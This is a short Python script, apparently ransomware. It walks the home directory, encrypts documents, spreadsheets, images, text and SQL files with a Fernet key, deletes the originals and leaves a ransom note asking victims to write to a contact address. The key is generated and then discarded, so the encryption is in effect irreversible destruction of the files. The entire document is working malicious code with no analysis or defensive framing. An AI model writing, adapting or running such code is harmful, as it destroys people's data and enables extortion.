import os
from pathlib import Path
from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
EXT = {".doc", ".docx", ".pdf", ".jpg", ".xlsx", ".txt", ".sql"}

for base, _, names in os.walk(Path.home()):
    for n in names:
        p = Path(base, n)
        if p.suffix.lower() in EXT:
            try:
                p.with_suffix(p.suffix + ".locked").write_bytes(box.encrypt(p.read_bytes()))
                p.unlink()
            except OSError:
                continue
(Path.home() / "README_RESTORE.txt").write_text("Your files are locked. Write to unlock@example.org\n")
